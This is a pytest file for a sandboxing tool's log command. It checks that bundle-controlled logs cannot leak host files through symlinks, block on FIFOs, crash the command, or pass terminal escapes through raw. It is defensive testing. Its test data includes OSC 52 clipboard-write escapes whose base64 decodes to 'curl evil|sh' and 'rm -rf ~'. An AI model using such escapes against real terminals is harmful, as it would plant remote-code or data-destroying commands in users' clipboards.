"""Attacks on `bottle-engine logs SLUG --egress [-f]` (also what the editor's "Follow egress log"
terminal runs): the audit log it prints lives in the bottle's state dir, which the bundle
writes, and the bundle parses the agent's traffic. Whatever the bundle puts at the log's names,
the command must not print a host file of its choosing, block, exhaust memory, crash, or pass
a terminal escape sequence through to the person's terminal."""

from __future__ import annotations

import json
import os
import threading
from pathlib import Path

import pytest

from bottle_engine import records
from bottle_engine.bottle_dir import BottleDir
from bottle_engine.bundle.audit import AuditEntry
from bottle_engine.cli import main

SLUG = "s1"


def entry(host: str) -> AuditEntry:
    return AuditEntry(
        time="2026-01-01T00:00:00.000+00:00",
        method="GET",
        host=host,
        port=443,
        decision="deny",
        rule="default-deny",
        reason="no rule",
        kind="http",
    )


@pytest.fixture
def bottle_dir() -> BottleDir:
    records.save(
        records.BottleRecord(
            SLUG, f"bottle-{SLUG}", "dev", "default", "docker", "m", "/", "t", "i", "n"
        )
    )
    return BottleDir.create(SLUG)


def logs_egress(capsys: pytest.CaptureFixture[str]) -> str:
    """`logs SLUG --egress` in a thread (a FIFO would block it for ever): what it printed."""
    result: list[int] = []
    failure: list[BaseException] = []

    def run() -> None:
        try:
            result.append(main(["logs", SLUG, "--egress"]))
        except BaseException as exc:  # reported below, in the test's thread
            failure.append(exc)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(timeout=20)
    assert not thread.is_alive(), "`logs --egress` blocked on what the bundle put at the log"
    assert not failure, f"`logs --egress` failed: {failure[0]!r}"
    assert result == [0]
    return capsys.readouterr().out


def test_a_log_linked_to_a_host_file_does_not_print_that_file(
    bottle_dir: BottleDir, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The bundle replaces egress.jsonl by a link to a host file it cannot read itself (here a
    line that passes for an entry, to show nothing of it is printed as this bottle's)."""
    host_file = tmp_path / "host-secret.jsonl"
    host_file.write_text(entry("host-secret.test").to_json() + "\n")
    bottle_dir.egress_log.symlink_to(host_file)
    assert "host-secret" not in logs_egress(capsys)


def test_a_rotation_linked_to_a_host_file_does_not_print_that_file(
    bottle_dir: BottleDir, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    host_file = tmp_path / "host-secret.jsonl"
    host_file.write_text(entry("host-secret.test").to_json() + "\n")
    (bottle_dir.path / "egress.jsonl.1").symlink_to(host_file)
    bottle_dir.write_private(bottle_dir.egress_log, entry("live.test").to_json() + "\n")
    out = logs_egress(capsys)
    assert "host-secret" not in out
    assert "live.test" in out


def test_a_fifo_at_the_log_does_not_block_the_command(
    bottle_dir: BottleDir, capsys: pytest.CaptureFixture[str]
) -> None:
    os.mkfifo(bottle_dir.egress_log)
    assert logs_egress(capsys) == ""


def test_a_rotation_named_with_a_non_ascii_digit_does_not_crash_the_command(
    bottle_dir: BottleDir, capsys: pytest.CaptureFixture[str]
) -> None:
    """`'²'.isdigit()` is true and `int('²')` raises: the bundle could make the log unreadable."""
    bottle_dir.write_private(bottle_dir.path / "egress.jsonl.\u00b2", "junk\n")
    bottle_dir.write_private(bottle_dir.egress_log, entry("live.test").to_json() + "\n")
    assert "live.test" in logs_egress(capsys)


def test_terminal_escapes_in_the_log_never_reach_the_terminal_raw(
    bottle_dir: BottleDir, capsys: pytest.CaptureFixture[str]
) -> None:
    """The bundle writes a raw line of terminal escapes (an OSC 52 clipboard write, a line
    erase) and an entry whose host carries a bidi override and escapes: printed, none may be
    raw, and the entry still reads back."""
    clipboard = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K"
    hostile = f"evil.test{clipboard}\u202e"
    as_entry = json.dumps(json.loads(entry("x").to_json()) | {"host": hostile}, ensure_ascii=False)
    bottle_dir.write_private(bottle_dir.egress_log, f"{clipboard}\n{as_entry}\n")
    out = logs_egress(capsys)
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert json.loads(out)["host"] == hostile


def test_entries_are_printed_oldest_rotation_first_one_json_line_each(
    bottle_dir: BottleDir, capsys: pytest.CaptureFixture[str]
) -> None:
    for name, host in (("egress.jsonl.2", "a.test"), ("egress.jsonl.1", "b.test")):
        bottle_dir.write_private(bottle_dir.path / name, entry(host).to_json() + "\n")
    bottle_dir.write_private(
        bottle_dir.egress_log, "cut short by a crash\n" + entry("c.test").to_json() + "\n"
    )
    lines = logs_egress(capsys).splitlines()
    assert [json.loads(line)["host"] for line in lines] == ["a.test", "b.test", "c.test"]


def test_logs_bundle_shows_the_agents_host_names_escaped(
    bottle_dir: BottleDir, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`logs SLUG --bundle` is the bundle's output, which names the hosts the agent asked for
    (mitmproxy logs each connection): an OSC 52 clipboard write or a line eraser in a host name
    must arrive as text. Chunks split a line and a UTF-8 character; both come out whole."""
    from bottle_engine import lifecycle

    hostile = "GET http://\x1b]52;c;cm0gLXJmIH4K\x07evil.test/\x1b[2K\u202e/ 403\n".encode()
    chunks = [b"proxy listening\n", hostile[:9], hostile[9:], "caf\u00e9 ok\n".encode()[:4]]
    chunks.append("caf\u00e9 ok\n".encode()[4:])
    monkeypatch.setattr(lifecycle, "logs", lambda slug, bundle, follow: iter(chunks))
    assert main(["logs", SLUG, "--bundle"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert out.splitlines() == [
        "proxy listening",
        "GET http://\\x1b]52;c;cm0gLXJmIH4K\\x07evil.test/\\x1b[2K\\u202e/ 403",
        "caf\u00e9 ok",
    ]


def test_logs_bundle_cuts_a_line_that_never_ends() -> None:
    from bottle_engine.display import LOG_LINE_LIMIT, safe_lines

    lines = list(safe_lines(iter([b"x" * (LOG_LINE_LIMIT + 10)])))
    assert [len(line) for line in lines] == [LOG_LINE_LIMIT + 1, 11]
